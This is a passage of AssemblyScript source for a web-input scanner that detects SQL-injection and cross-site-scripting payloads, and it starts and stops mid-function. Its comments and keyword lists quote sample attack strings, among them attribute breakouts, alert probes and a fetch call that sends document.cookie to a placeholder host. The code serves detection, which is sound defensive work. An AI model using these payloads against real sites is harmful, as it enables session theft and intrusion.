        while (m < w.length && <u32>load<u8>(hexText + <usize>(at + m)) == ch(w, m)) m++;
        if (m == w.length) return "sqli:hex-encoded-statement";
      }
    }
  }
  return null;
}

function appendedClause(): string | null {
  let v = 0;
  // (blanks and inline comments: /**/HAVING 7034=1552)
  while (v < normLen && v < 64) {
    if (isSpace(nb(v))) { v++; continue; }
    if (nb(v) == 0x2f && nb(v + 1) == 0x2a && nb(v + 2) == 0x2a && nb(v + 3) == 0x2f) { v += 4; continue; }
    break;
  }
  // An alias first, for a value placed after a table or column name: " AS INJECTX WHERE 1=1 AND 1=0".
  const aliased = startsAt(v, "as ") && aliasThenWhere(v + 3);
  if (aliased) v = skipBlanks(v + 3);
  if (aliased) { while (v < normLen && isWordByte(nb(v))) v++; v = skipBlanks(v); }
  const c = nb(v);
  if (!(c == 0x6f || c == 0x67 || c == 0x68 || c == 0x77)) return null;
  if (!(startsAt(v, "order") || startsAt(v, "group") || startsAt(v, "having") || startsAt(v, "where"))) return null;
  if (!tokensOfWholeValue) sqlTokenize(0);
  if (ntok < 3) return null;
  if ((startsAt(v, "order") || startsAt(v, "group")) && tok(0) == T_KEYWORD && tok(1) == T_KEYWORD) {
    // order by 4-- | group by 2# | order by sleep(5)#
    if ((tok(2) == T_NUMBER || tok(2) == T_SQLFUNC) && tok(ntok - 1) == T_COMMENT) return "sqli:appended-clause";
    // group by userid having 1=1-- (error-based enumeration of a query's columns, one name at a time)
    if (ntok >= 7 && (tok(2) == T_WORD || tok(2) == T_NUMBER) && tok(3) == T_KEYWORD && wordTokenIs(3, "having") && (tok(4) == T_NUMBER || tok(4) == T_STRING) &&
        tok(5) == T_CMP && (tok(6) == T_NUMBER || tok(6) == T_STRING)) return "sqli:appended-clause";
    return null;
  }
  const w = aliased ? 2 : 0; // AS, the alias
  if ((startsAt(v, "having") || startsAt(v, "where")) && tok(w) == T_KEYWORD && ntok >= w + 4 && (tok(w + 1) == T_NUMBER || tok(w + 1) == T_STRING) && tok(w + 2) == T_CMP &&
      (tok(w + 3) == T_NUMBER || tok(w + 3) == T_STRING) && (ntok == w + 4 || tok(w + 4) == T_LOGIC || tok(w + 4) == T_COMMENT)) return "sqli:appended-clause";
  return null;
}
// After "as ": one name, blanks, then WHERE.
function aliasThenWhere(i: i32): bool {
  i = skipBlanks(i);
  const s = i;
  while (i < normLen && isWordByte(nb(i))) i++;
  return i > s && startsAt(skipBlanks(i), "where");
}
const SET_PARAM_SEP = byteSet("?&;");

// ---- XSS ---------------------------------------------------------------------------------------------------

function isDangerousTag(s: i32, e: i32): bool {
  // Only the names starting with the tag's first letter are compared (div, p, span: none).
  let cand = load<u32>(tagFirst + (<usize>nb(s) << 2));
  while (cand != 0) {
    const k = ctz(cand);
    cand &= cand - 1;
    if (wordEquals(s, e, unchecked(LIST_NAMES_2[k]))) return true;
  }
  // Only the markup names starting with the tag's first letter are compared.
  let mc = load<u32>(markupFirst + (<usize>nb(s) << 2));
  while (mc != 0) {
    const k = ctz(mc);
    mc &= mc - 1;
    if (!wordEquals(s, e, unchecked(LIST_MARKUP_TAGS[k]))) continue;
    // <link … href=//host/…>: a stylesheet or import the page loads from another site (CSS injection); a site's
    // own /css/site.css is markup.
    if (k == MARKUP_LINK && externalHref(e)) return true;
    // Whether the value holds a markup vector is searched once per value, not once per such tag.
    if (markupVectors < 0) {
      markupVectors = 0;
      const vectors = LIST_MARKUP_VECTORS;
      for (let v = 0; v < vectors.length; v++) if (indexOf(unchecked(vectors[v]), 0) >= 0) { markupVectors = 1; break; }
    }
    return markupVectors == 1;
  }
  return false;
}
let markupVectors: i32 = -1; // unknown for this value (reset by xssOnNormalized)
const MARKUP_LINK = 3; // LIST_MARKUP_TAGS[3]
// Whether the tag whose name ends at e has an href (before its '>') to another site: http:, https:, //host
// (or the href ends the value: a tag cut off where the injected URL would follow).
function externalHref(e: i32): bool {
  let k = e;
  while (k < normLen && nb(k) != 0x3e && nb(k) != 0x3c) {
    if ((isSpace(nb(k)) || nb(k) == 0x2f || nb(k) == 0x22 || nb(k) == 0x27) && startsAt(k + 1, "href")) {
      let j = k + 5;
      while (j < normLen && (isSpace(nb(j)) || nb(j) == 0x2f)) j++;
      if (nb(j) != 0x3d) { k++; continue; }
      j++;
      while (j < normLen && (isSpace(nb(j)) || nb(j) == 0x22 || nb(j) == 0x27)) j++;
      if (j >= normLen || startsAt(j, "http:") || startsAt(j, "https:") || startsAt(j, "//")) return true;
    }
    k++;
  }
  return false;
}
const tagFirst = firstByteTable(LIST_NAMES_2);
const markupFirst = firstByteTable(LIST_MARKUP_TAGS);

// Prose that names a tag ("The <script> tag is described in chapter 3"): the tag is bare (no attributes),
// nothing closes it, and what follows is words and spaces only. An injected tag has attributes, content with
// code, or a closing tag.
function namedInProse(lt: i32, nameEnd: i32): bool {
  if (nb(lt + 1) == 0x2f || nb(nameEnd) != 0x3e || lt == 0) return false;   // "</x", attributes, or value starts with the tag
  // Prose names a tag after a blank, '(' , ',' or ':'; right after '>' or a quote it closes what came before
  // ("><script>x", "'><script>x": a breakout out of an attribute or tag).
  const b = nb(lt - 1);
  if (!(isSpace(b) || b == 0x28 || b == 0x2c || b == 0x3a)) return false;
  for (let k = nameEnd + 1; k < normLen; k++) {
    const c = nb(k);
    if (!(isAlpha(c) || isDigit(c) || c == 0x20 || c == 0x2c || c == 0x2e)) return false;
  }
  return nameEnd + 1 < normLen;
}

// javascript: / vbscript: / data:text/html at i, ignoring whitespace and control bytes inside the scheme.
function scriptUriAt(i: i32): bool {
  const schemes = LIST_SCHEMES_3;
  for (let k = 0; k < schemes.length; k++) {
    const s = unchecked(schemes[k]);
    let j = i;
    let m = 0;
    while (m < s.length && j < normLen) {
      const c = nb(j);
      if (c <= 0x20 && c != ch(s, m)) { j++; continue; }
      if (c != ch(s, m)) break;
      m++; j++;
    }
    if (m == s.length) { scriptUriEnd = j; scriptUriSplit = j - i > m; return true; }
  }
  return false;
}
let scriptUriEnd = 0;
let scriptUriSplit = false; // the scheme had blanks or control bytes inside (ja\tvascript:): no title writes that
// After "javascript:" a space, then a word that is not called or assigned: prose, not code.
function scriptUriTitle(): bool {
  let j = scriptUriEnd;
  if (nb(j) != 0x20 || scriptUriSplit) return false;
  while (j < normLen && nb(j) == 0x20) j++;
  if (j >= normLen) return false; // "javascript: " and nothing: no title either
  while (j < normLen && (isWordByte(nb(j)) || nb(j) == 0x2e)) j++;
  const c = nb(j);
  return !(c == 0x28 || c == 0x60 || c == 0x3d || c == 0x5b);
}

// A script URI that does nothing: "javascript:;", "javascript:void(0)", "javascript:void 0;" — the href of links
// that a page's own script handles, and so what analytics beacons report as a clicked link's URL (GA4's
// ep.link_url=javascript:;). It ends there: the value's end, a closing quote or '>'.
function scriptUriNoOp(): bool {
  if (scriptUriSplit) return false;
  let j = scriptUriEnd;
  if (startsAt(j, "void")) {
    j += 4;
    if (startsAt(j, "(0)")) j += 3;
    else if (nb(j) == 0x20 && nb(j + 1) == 0x30) j += 2;
    else return false;
  }
  if (nb(j) == 0x3b) j++;
  return j >= normLen || nb(j) == 0x22 || nb(j) == 0x27 || nb(j) == 0x3e;
}

// An event-handler attribute at i: on<letters> [space] =
function handlerAt(i: i32): bool {
  if (nb(i) != 0x6f || nb(i + 1) != 0x6e) return false;
  let j = i + 2;
  const s = j;
  while (j < normLen && isAlpha(nb(j))) j++;
  if (j - s < 3) return false;
  while (j < normLen && (isSpace(nb(j)) || nb(j) == 0x2f)) j++; // onerror /= : HTML parsers skip the slash
  return nb(j) == 0x3d;
}

// The value of the handler at i calls something (alert(1), top['al'+'ert'](1), confirm`1`) or is a script URI:
// "onboarding=true" and "onload=..." are prose or configuration.
function handlerCallsScript(i: i32): bool {
  let j = i;
  while (j < normLen && nb(j) != 0x3d) j++;
  j++;
  while (j < normLen && (isSpace(nb(j)) || nb(j) == 0x22 || nb(j) == 0x27)) j++;
  if (scriptUriAt(j)) return true;
  const s = j;
  let bracket = 0;
  while (j < normLen) {
    const c = nb(j);
    if (c == 0x5b) bracket++;
    else if (c == 0x5d) bracket--;
    // Inside [...] a property name may be spelled in pieces: top['al'+'ert'] ('+' reads as a space here).
    else if (!(isWordByte(c) || c == 0x2e || (bracket > 0 && (c == 0x27 || c == 0x22 || c == 0x2b || c == 0x20)))) break;
    j++;
  }
  if (j > s && (nb(j) == 0x28 || nb(j) == 0x60)) return true;
  // A property assignment (document.cookie=…, location.href=…): a dotted name then '=' (not '==').
  if (j > s && nb(j) == 0x3d && nb(j + 1) != 0x3d) for (let k = s; k < j; k++) if (nb(k) == 0x2e) return true;
  return false;
}

// Script-string breakout: a quote closing a JavaScript string, an operator or ';', then a call of a script
// sink: "-alert(1)-", ';alert(1)//, ")+confirm`1`+(".
const JS_SINKS: StaticArray<string> = ["alert", "prompt", "confirm", "eval", "fetch", "settimeout", "setinterval", "import", "document.write"];
function jsBreakoutAt(i: i32): bool {
  let j = i + 1;
  let ops = 0;
  while (j < normLen && ops < 4) {
    const d = nb(j);
    if (d == 0x2d || d == 0x2b || d == 0x2a || d == 0x3b || d == 0x29 || d == 0x7d || d == 0x7c || d == 0x26 || d == 0x5e) { ops++; j++; }
    else if (isSpace(d)) j++;
    else break;
  }
  if (ops == 0 || !isAlpha(nb(j))) return false;
  for (let k = 0; k < JS_SINKS.length; k++) {
    const w = JS_SINKS[k];
    if (!startsAt(j, w)) continue;
    const e = j + w.length;
    if (nb(e) == 0x28 || nb(e) == 0x60) return true;
  }
  return false;
}

// The attributes of the tag whose name ends at j, when every value is quoted and none runs script (no on*
// handler, no srcdoc, no script URI): returns the index past '>' (or -1), and what src and type hold.
let tagSrcHttps = false, tagTypeData = false, tagOtherAttrs = 0;
function quietAttributesEnd(j: i32): i32 {
  tagSrcHttps = false; tagTypeData = false; tagOtherAttrs = 0;
  let k = j;
  for (let guard = 0; guard < 32; guard++) {
    while (k < normLen && isSpace(nb(k))) k++;
    if (k >= normLen) return -1;
    const c = nb(k);
    if (c == 0x3e) return k + 1;
    if (c == 0x2f && nb(k + 1) == 0x3e) return k + 2;
    if (!isAlpha(c)) return -1;
    const ns = k;
    while (k < normLen && (isAlpha(nb(k)) || isDigit(nb(k)) || nb(k) == 0x2d || nb(k) == 0x3a)) k++;
    const ne = k;
    if (handlerAt(ns) || (nb(ns) == 0x6f && nb(ns + 1) == 0x6e) || wordEquals(ns, ne, "srcdoc") || wordEquals(ns, ne, "formaction")) return -1;
    while (k < normLen && isSpace(nb(k))) k++;
    if (nb(k) != 0x3d) { tagOtherAttrs++; continue; } // a boolean attribute (allowfullscreen)
    k++;
    while (k < normLen && isSpace(nb(k))) k++;
    const q = nb(k);
    if (q != 0x22 && q != 0x27) return -1;
    const vs = k + 1;
    k = vs;
    while (k < normLen && nb(k) != q) { if (nb(k) == 0x3c) return -1; k++; }
    if (k >= normLen) return -1;
    if (scriptUriAt(vs)) return -1;
    if (wordEquals(ns, ne, "src")) tagSrcHttps = startsAt(vs, "https://") && k - vs > 9;
    else if (wordEquals(ns, ne, "type")) tagTypeData = wordEquals(vs, k, "application/ld+json") || wordEquals(vs, k, "application/ld json") || wordEquals(vs, k, "application/json"); // ('+' may read as a space)
    else tagOtherAttrs++;
    k++;
  }
  return -1;
}

// An element that shows or describes content without running script: an <iframe> player with an https src
// and quoted, script-free attributes; a <script> data block (type application/ld+json or application/json,
// no src) whose content holds no markup. Returns the index past its end tag (or past the start tag when the
// iframe is not closed), or -1. `lt` is the '<', [s, e) the element name.
let scriptCloseAt: i32 = -2; // unknown for this value (reset by xssOnNormalized)
function inertElementEnd(lt: i32, s: i32, e: i32): i32 {
  const iframe = wordEquals(s, e, "iframe");
  const script = !iframe && wordEquals(s, e, "script");
  if (!iframe && !script) return -1;
  const past = quietAttributesEnd(e);
  if (past < 0) return -1;
  if (iframe) {
    if (!tagSrcHttps) return -1;
    let k = past;
    while (k < normLen && isSpace(nb(k))) k++;
    return startsAt(k, "</iframe>") ? k + 9 : past;
  }
  if (!tagTypeData || tagSrcHttps || tagOtherAttrs > 1) return -1;
  // The next "</script" is searched once per value and reused (a run of unclosed data blocks stays linear).
  if (scriptCloseAt == -2 || (scriptCloseAt >= 0 && scriptCloseAt < past)) scriptCloseAt = indexOf("</script", past);
  const close = scriptCloseAt;
  if (close < 0) return -1;
  for (let k = past; k < close; k++) if (nb(k) == 0x3c) return -1;
  const gt = close + 8;
  return nb(gt) == 0x3e ? gt + 1 : -1;
}

const SET_LBRACKET = byteSet("["); // also read by bracketGlobPath
const JS_GLOBALS: StaticArray<string> = ["window", "self", "top", "parent", "frames", "globalthis", "document", "this", "content"];
function globalPropertyByString(): bool {
  for (let i = 1; i + 2 < normLen; i++) {
    i = nextInSet(normPtr, i, normLen, SET_LBRACKET);
    if (i + 2 >= normLen) break;
    if (nb(i) != 0x5b) continue;
    // [ (comments/spaces) 'name' or "name"
    const q = nb(jsTokenAfter(i + 1));
    if (q != 0x22 && q != 0x27 && q != 0x60) continue;
    // the global before '[' (spaces, comments and one closing parenthesis allowed between, and inside the
    // parentheses too: (document/*x*/)["cookie"])
    let e = jsTokenEndBefore(i);
    let paren = false;
    if (e > 0 && nb(e - 1) == 0x29) { e = jsTokenEndBefore(e - 1); paren = true; }
    let s = e;
    while (s > 0 && isAlpha(nb(s - 1))) s--;
    if (paren && !(s > 0 && nb(s - 1) == 0x28)) continue;
    if (s > 0 && (isWordByte(nb(s - 1)) || nb(s - 1) == 0x2e)) continue;
    for (let k = 0; k < JS_GLOBALS.length; k++) if (wordEquals(s, e, unchecked(JS_GLOBALS[k]))) return true;
  }
  return false;
}
// JSFuck: a value made of []()!+ (spaces: '+' read as a space) holding ![] or +[].
function jsfuck(): bool {
  if (normLen < 5) return false;
  let other = 0, marks = 0;
  const allowed = normLen / 10; // more bytes outside the set than this: not JSFuck (stops early on code and prose)
  for (let i = 0; i < normLen; i++) {
    const c = nb(i);
    if (c == 0x5b || c == 0x5d || c == 0x28 || c == 0x29 || c == 0x21 || c == 0x2b || c == 0x20) {
      if (c == 0x5b && nb(i + 1) == 0x5d && i > 0 && (nb(i - 1) == 0x21 || nb(i - 1) == 0x2b || nb(i - 1) == 0x20)) marks++;
    } else if (++other > allowed) return false;
  }
  return marks >= 1;
}

// An attribute broken out of and a tag started: "><h1>Test</h1>, x"><img src=x>, a'"><injectable> (HTML injection:
// the probes that prove a value is reflected unescaped, and link or form injection). A quote then '>' before any
// '<' of the value, then a tag name: HTML content opens its own tags first (<p class="x"><b>…).
function markupBreakout(): bool {
  for (let i = 0; i + 3 < normLen; i++) {
    const c = nb(i);
    if (c == 0x3c) return false;
    let j: i32;
    if (c == 0x2d && nb(i + 1) == 0x2d && nb(i + 2) == 0x3e) j = skipBlanks(i + 3); // --> : a comment the page held, closed
    else {
      if (c != 0x22 && c != 0x27) continue;
      j = skipBlanks(i + 1);
      if (nb(j) == 0x2f) j++; // "/> : a void tag closed
      if (nb(j) != 0x3e) continue;
      j = skipBlanks(j + 1);
    }
    // the elements it was inside closed too: "></a><marquee>…
    for (let t = 0; t < 3 && nb(j) == 0x3c && nb(j + 1) == 0x2f && isAlpha(nb(j + 2)); t++) {
      let k = j + 3;
      while (k < normLen && (isAlpha(nb(k)) || isDigit(nb(k)))) k++;
      if (nb(k) != 0x3e) break;
      j = skipBlanks(k + 1);
    }
    if (nb(j) != 0x3c || !isAlpha(nb(j + 1))) continue;
    // a tag name of letters and digits (a fragment of a page pasted into a field closes into custom names:
    // "PRICE\">   <A-TR")
    let k = j + 2;
    while (k < normLen && (isAlpha(nb(k)) || isDigit(nb(k)))) k++;
    const e = nb(k);
    if (k >= normLen || e == 0x3e || isSpace(e) || e == 0x2f) return true;
  }
  return false;
}
function xssOnNormalized(): bool {
  markupVectors = -1;
  scriptCloseAt = -2;
  if (((present & P_QUOTE) != 0 || indexOf("-->", 0) >= 0) && markupBreakout()) { lastRule = "xss:markup-breakout"; return true; }
  for (let i = 0; i < normLen; i++) {
    // The rules act at '<', quotes, whitespace (a handler after it) and the first byte.
    // (nextInSet, plus the non-ASCII no-break space 0xa0.)
    if (ASC_FEATURE_SIMD && i > 0) {
      const t = v128.load(SET_XSS);
      while (i < normLen) {
        const v = v128.load(normPtr + <usize>i);
        const m = (inSetMask(v, t) | i8x16.bitmask(i8x16.eq(v, i8x16.splat(<i8>0xa0)))) & lanesBefore(i, normLen);
        if (m != 0) { i += ctz(m); break; }
        i += 16;
      }
      if (i >= normLen) break;
    }
    const c = nb(i);
    if (inFence(i)) continue;
    if (c == 0x3c) { // <
      let j = i + 1;
      // </x; and a processing instruction (<?xml-stylesheet href=…?>), whose attributes are read like a tag's
      // (its name is not: <?xml version="1.0"?> starts every XML document).
      const pi = nb(j) == 0x3f;
      if (nb(j) == 0x2f || pi) j++;
      const s = j;
      while (j < normLen && (isAlpha(nb(j)) || isDigit(nb(j)) || nb(j) == 0x3a || nb(j) == 0x2d)) j++;
      if (j == s || !isAlpha(nb(s))) {
        if (nb(s) == 0x21 && nb(s + 1) == 0x2d && nb(s + 2) == 0x2d) continue; // comment
        continue;
      }
      // A namespaced name (<x:script xmlns:x="http://www.w3.org/1999/xhtml">) is the element after the prefix.
      let ns = j;
      while (ns > s && nb(ns - 1) != 0x3a) ns--;
      if (ns == j) ns = s;
      // Content that embeds or describes rather than runs: a video player <iframe> with quoted attributes and an
      // https src, a structured-data block (<script type="application/ld+json">). Skipped through its end tag.
      if (j - ns == 6 && nb(i + 1) != 0x2f && !pi) { // iframe, script
        const past = inertElementEnd(i, ns, j);
        if (past > 0) { i = past - 1; continue; }
      }
      if (!pi && isDangerousTag(ns, j) && !namedInProse(i, j)) { lastRule = "xss:tag"; return true; }
      // Attributes of any tag: handlers and script URIs.
      let k = j;
      while (k < normLen && nb(k) != 0x3e && nb(k) != 0x3c) {
        const d = nb(k);
        if ((isSpace(d) || d == 0x2f || d == 0x22 || d == 0x27 || d == 0x60) && handlerAt(k + 1)) { lastRule = "xss:event-handler"; return true; }
        // attr=javascript:…, and style="background:url(javascript:…)"
        // (also a quoted script URI inside a CSS value: style="-o-link:'javascript:…'")
        if (d == 0x3d || d == 0x28 || ((d == 0x27 || d == 0x22) && nb(k - 1) == 0x3a)) {
          let v = k + 1;
          // (typographic quotes too: SRC=”javascript:…” as pasted from a page that "prettified" them)
          while (v < normLen) {
            if (isSpace(nb(v)) || nb(v) == 0x22 || nb(v) == 0x27 || nb(v) == 0x60 || (nb(v) == 0xc2 && nb(v + 1) == 0xa0)) { v++; continue; }
            if (nb(v) == 0xe2 && nb(v + 1) == 0x80 && (nb(v + 2) == 0x98 || nb(v + 2) == 0x99 || nb(v + 2) == 0x9c || nb(v + 2) == 0x9d)) { v += 3; continue; }
            break;
          }
          if (scriptUriAt(v) && !scriptUriNoOp()) { lastRule = "xss:script-uri"; return true; }
        }
        k++;
      }
      continue;
    }
    if ((c == 0x22 || c == 0x27) && jsBreakoutAt(i)) { lastRule = "xss:script-string-breakout"; return true; }
    // Unquoted-attribute context: a space, then a handler whose value calls script ("x onmouseover=alert(1)").
    if ((isSpace(c) || i == 0) && handlerAt(isSpace(c) ? i + 1 : i) && handlerCallsScript(isSpace(c) ? i + 1 : i)) { lastRule = "xss:attribute-handler"; return true; }
    // Attribute-context breakout: a quote, then a handler ("  onmouseover=alert(1) x=")
    if ((c == 0x22 || c == 0x27) && i + 2 < normLen) {
      let j = i + 1;
      while (j < normLen && (isSpace(nb(j)) || nb(j) == 0x2f)) j++;
      // Skip other attributes ("' autofocus onfocus=…") for a bounded stretch.
      // A handler right after the closing quote ("onmouseover="…) is still an attribute to HTML parsers.
      let spaced = j > i + 1 || (handlerAt(j) && handlerCallsScript(j));
      // An attribute name right after the quote ("autofocus/onfocus=alert(1)//): then only a handler whose
      // value calls script counts (a quoted word in prose is followed by words, not by "on…=alert(1)").
      const wordAfterQuote = !spaced && isAlpha(nb(j));
      if (wordAfterQuote) spaced = true;
      for (let a = 0; a < 8 && j < normLen && spaced; a++) {
        if (handlerAt(j) && (!wordAfterQuote || handlerCallsScript(j))) { lastRule = "xss:attribute-breakout"; return true; }
        if (!isAlpha(nb(j))) break;
        while (j < normLen && (isAlpha(nb(j)) || nb(j) == 0x2d)) j++;
        // An attribute with an unquoted value (" type=image src=null onerror=…").
        if (nb(j) == 0x3d && j + 1 < normLen && nb(j + 1) != 0x22 && nb(j + 1) != 0x27) { j++; while (j < normLen && !isSpace(nb(j)) && nb(j) != 0x3e) j++; }
        spaced = false;
        while (j < normLen && (isSpace(nb(j)) || nb(j) == 0x2f)) { j++; spaced = true; }
      }
    }
  }
  // A value that is itself a script URI (href/src injection), or CSS expression().
  let v = 0;
  // (Quotes too: "javascript:alert(1)"> closes the attribute the value was written into.)
  while (v < normLen && (nb(v) <= 0x20 || nb(v) == 0x22 || nb(v) == 0x27)) v++;
  // ("Javascript: the good parts" is a title: a space and words follow the colon, nothing is called.)
  if (scriptUriAt(v) && !scriptUriTitle() && !scriptUriNoOp()) { lastRule = "xss:script-uri"; return true; }
  if (indexOf("expression(", 0) >= 0 && indexOf("style", 0) >= 0) { lastRule = "xss:css-expression"; return true; }
  // A CSS value outside a tag that loads a script URI (style=background:url(javascript:…), spaces allowed
  // around the parenthesis) or a behavior/binding (-moz-binding:url(…), behavior:url(…)).
  if (present & P_PAREN) {
    for (let u = indexOf("url", 0); u >= 0; u = indexOf("url", u + 3)) {
      let v = u + 3;
      while (v < normLen && isSpace(nb(v))) v++;
      if (nb(v) != 0x28) continue;
      v++;
      while (v < normLen && (isSpace(nb(v)) || nb(v) == 0x22 || nb(v) == 0x27)) v++;
      if (scriptUriAt(v)) { lastRule = "xss:css-script-uri"; return true; }
      // Cut after the scheme's name: url(javascript
      if ((startsAt(v, "javascript") && v + 10 == normLen) || (startsAt(v, "vbscript") && v + 8 == normLen)) { lastRule = "xss:css-script-uri"; return true; }
      let b = u;
      while (b > 0 && (isSpace(nb(b - 1)) || nb(b - 1) == 0x3a)) b--;
      if ((b >= 7 && startsAt(b - 7, "binding")) || (b >= 8 && startsAt(b - 8, "behavior")) || (b >= 9 && startsAt(b - 9, "behaviour"))) { lastRule = "xss:css-binding"; return true; }
    }
  }
  // Script reached without its name in plain text: a global's property by string (window["alert"],
  // self['document'], (document)["cookie"]), JSFuck ((![]+[])[+!+[]]), UTF-7 markup (+ADw-script+AD4-).
  if ((present & (P_BRACKET | P_QUOTE)) == (P_BRACKET | P_QUOTE) && globalPropertyByString()) { lastRule = "xss:global-property"; return true; }
  if ((present & (P_BRACKET | P_BANG)) == (P_BRACKET | P_BANG) && jsfuck()) { lastRule = "xss:jsfuck"; return true; }
  if ((present & P_DASH) && utf7Markup()) { lastRule = "xss:utf7"; return true; }
  // Markup an XML parser puts together: a tag's '<' or '>' alone in a CDATA section (<![CDATA[<]]>SCRIPT…),
  // and Internet Explorer's behaviors imported by a processing instruction (<?import … implementation=…>).
  if ((present & (P_LT | P_BANG | P_BRACKET)) == (P_LT | P_BANG | P_BRACKET) && (indexOf("<![cdata[<]]>", 0) >= 0 || indexOf("<![cdata[>]]>", 0) >= 0)) { lastRule = "xss:cdata-split"; return true; }
  if ((present & (P_LT | P_QMARK)) == (P_LT | P_QMARK)) {
    const i = indexOf("<?import", 0);
    if (i >= 0 && indexOf("implementation", i) > i) { lastRule = "xss:import-behavior"; return true; }
  }
  // Internet Explorer's data binding renders a data source as HTML (<span datasrc=#x dataformatas=html>).
  if ((present & (P_LT | P_EQ)) == (P_LT | P_EQ) && indexOf("dataformatas", 0) >= 0) { lastRule = "xss:data-binding"; return true; }
  if ((present & (P_PAREN | P_BACKTICK_FENCE)) != 0 && scriptCall()) { lastRule = "xss:script-call"; return true; }
  if ((present & P_PAREN) != 0 && indirectDialogCall()) { lastRule = "xss:indirect-call"; return true; }
  if ((present & P_EQ) != 0 && (present & (P_PAREN | P_BACKTICK_FENCE)) != 0 && aliasedCallableCall()) { lastRule = "xss:aliased-call"; return true; }
  if ((present & (P_PAREN | P_DOT)) == (P_PAREN | P_DOT) && dialogAsCallback()) { lastRule = "xss:dialog-callback"; return true; }
  if ((present & (P_SLASH | P_DOT)) == (P_SLASH | P_DOT) && regexSourcePieces()) { lastRule = "xss:regex-source"; return true; }
  if ((present & (P_PAREN | P_DOT | P_DIGIT)) == (P_PAREN | P_DOT | P_DIGIT) && numberSpellsName()) { lastRule = "xss:number-spelled-name"; return true; }
  if ((present & (P_EQ | P_COLON)) == (P_EQ | P_COLON) && uriAttributeOutsideTag()) { lastRule = "xss:uri-attribute"; return true; }
  if ((present & P_DOT) != 0 && (present & (P_EQ | P_PAREN)) != 0 && domSinkWrite()) { lastRule = "xss:dom-sink"; return true; }
  if ((present & P_BACKTICK_FENCE) != 0 && taggedTemplateCall()) { lastRule = "xss:tagged-template"; return true; }
  if ((present & P_DOT) != 0 && cookieRead()) { lastRule = "xss:cookie-read"; return true; }
  return cssHiddenVector();
}

// The calls an XSS probe or payload makes, standing alone (a value reflected into a script, or the script a
// handler runs): alert(1), prompt`1`, confirm(document.domain), eval(atob('…')), setTimeout('…'),
// fetch('//x/?c='+document.cookie). The argument decides: a literal (number, string, template, regex), the
// page's secrets (document.cookie, document.domain, location), a decoder (atob, String.fromCharCode); an
// empty call only for the dialogs. "Set an alert (daily)" has a space; "confirm your email" no call.
const SCRIPT_CALLS: StaticArray<string> = ["alert", "prompt", "confirm", "eval", "settimeout", "setinterval", "fetch", "print"];
const SCRIPT_ARGS: StaticArray<string> = ["document.cookie", "document.domain", "document.location", "window.location", "location.href", "localstorage", "atob(", "string.fromcharcode", "unescape(", "decodeuricomponent(", "window.name", "top.name"];
// Each '(' and '`' is looked at once: the word before it is compared with the names, and a call's argument
// is read in its first 80 bytes only (a value of many "alert(x" stays linear).
const SET_CALL_OPEN = byteSet("(`");
const scriptArgFirst = firstByteTable(SCRIPT_ARGS);
function scriptCall(): bool {
  let argsReadTo = 0; // the secrets are looked for at each position once (a position's match needs no call)
  for (let e = 1; e < normLen; e++) {
    e = nextInSet(normPtr, e, normLen, SET_CALL_OPEN);
    if (e >= normLen) break;
    const open = nb(e);
    if (open != 0x28 && open != 0x60) continue;
    let i = e;
    while (i > 0 && isAlpha(nb(i - 1))) i--;
    if (e - i < 4 || e - i > 11) continue;
    let k = 0;
    while (k < SCRIPT_CALLS.length && !wordEquals(i, e, unchecked(SCRIPT_CALLS[k]))) k++;
    if (k == SCRIPT_CALLS.length) continue;
    if (i > 0 && (isWordByte(nb(i - 1)) || nb(i - 1) == 0x60)) continue; // findalert(, `alert` in markdown
    if (i > 0 && nb(i - 1) == 0x2e && !globalBefore(i - 1)) continue; // res.setTimeout(10000): a method of an object
    if (inFence(i)) continue;
    if (open == 0x60) { if (k < 4) { const d = nb(e + 1); if (d != 0x60 && !isSpace(d) && d != 0) return true; } continue; }
    let a = e + 1;
    while (a < normLen && isSpace(nb(a))) a++;
    const c = nb(a);
    if (c == 0x29) { if (k < 3) return true; continue; } // alert(): the dialogs only
    // A literal argument: eval, the dialogs and the timers run or show it (fetch('…') and print('…') are code).
    if (k < 6 && (isDigit(c) || c == 0x22 || c == 0x27 || c == 0x60 || (c == 0x2f && k < 3 && nb(a + 1) != 0x2f && nb(a + 1) != 0x2a))) return true;
    // A secret or decoder in the call's first 80 bytes (concatenated into a URL: '//x/?c='+document.cookie).
    const lim = a + 80 < normLen ? a + 80 : normLen;
    for (let q = a > argsReadTo ? a : argsReadTo; q < lim; q++) {
      let cand = load<u32>(scriptArgFirst + (<usize>nb(q) << 2));
      while (cand != 0) {
        if (startsAt(q, unchecked(SCRIPT_ARGS[ctz(cand)]))) return true;
        cand &= cand - 1;
      }
    }
    if (lim > argsReadTo) argsReadTo = lim;
  }
  return false;
}

// A dialog or eval called the way filters that look for "alert(" miss: through call/apply/bind
// (alert.call(null,1), prompt.apply(null,[1])), parenthesized ((alert)(1), (0,eval)('…')) or by optional
// chaining (alert?.(1)). No prose or markdown writes a call so; any argument counts.
const SET_PAREN = byteSet("(");
function indirectDialogCall(): bool {
  for (let e = 1; e < normLen; e++) {
    e = nextInSet(normPtr, e, normLen, SET_PAREN);
    if (e >= normLen) break;
    let end = jsTokenEndBefore(e);
    if (end <= 0) continue;
    let c = nb(end - 1);
    let viaMethod = false;
    if (c == 0x2e && end >= 2 && nb(end - 2) == 0x3f) { end = jsTokenEndBefore(end - 2); } // alert?.(
    else if (c == 0x29) { end = jsTokenEndBefore(end - 1); } // (alert)(1)
    else if (isAlpha(c)) { // alert.call(
      let s = end;
      while (s > 0 && isAlpha(nb(s - 1))) s--;
      if (!(wordEquals(s, end, "call") || wordEquals(s, end, "apply") || wordEquals(s, end, "bind"))) continue;
      const dot = jsTokenEndBefore(s) - 1;
      if (dot < 1 || nb(dot) != 0x2e) continue;
      end = jsTokenEndBefore(dot);
      viaMethod = true;
    } else continue;
    if (end <= 0) continue;
    let s = end;
    while (s > 0 && isAlpha(nb(s - 1))) s--;
    if (end - s < 4 || (s > 0 && (isWordByte(nb(s - 1)) || nb(s - 1) == 0x60))) continue;
    if (!(wordEquals(s, end, "alert") || wordEquals(s, end, "prompt") || wordEquals(s, end, "confirm") || wordEquals(s, end, "eval"))) continue;
    // (alert)(1) needs its opening parenthesis; a method of an object (res.confirm.call) is not the dialog.
    // Its argument a literal there: "(confirm)(required)" is prose.
    if (c == 0x29) {
      if (!(s > 0 && (nb(s - 1) == 0x28 || nb(s - 1) == 0x2c))) continue;
      const t = jsTokenAfter(e + 1), a = nb(t);
      if (!(isDigit(a) || a == 0x22 || a == 0x27 || a == 0x60 || a == 0x29 || a == 0x2f || startsAt(t, "document."))) continue;
    }
    if (s > 0 && nb(s - 1) == 0x2e && !globalBefore(s - 1)) continue;
